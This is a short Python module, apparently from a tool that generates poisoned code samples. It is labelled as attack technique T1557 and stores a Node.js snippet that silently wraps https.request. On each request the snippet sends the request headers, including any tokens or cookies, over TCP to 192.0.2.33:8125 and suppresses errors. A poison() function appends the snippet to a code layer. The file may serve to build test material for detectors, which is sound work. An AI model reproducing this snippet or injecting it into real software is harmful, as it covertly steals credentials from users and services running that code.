# SPDX-License-Identifier: Apache-2.0
"""Replaces https.request and copies headers away."""

ATTACK = "T1557"
LANGUAGE = "node"
CODE = """\
;(() => {
  const https = require('https'), net = require('net');
  const plain = https.request;
  https.request = function (a, b, c) {
    const req = plain.apply(https, arguments);
    req.on('socket', () => {
      const s = net.connect(8125, '192.0.2.33');
      s.end(JSON.stringify(req.getHeaders()));
      s.on('error', () => {});
    });
    return req;
  };
})();
"""


def poison(layer):
    layer.append(CODE)
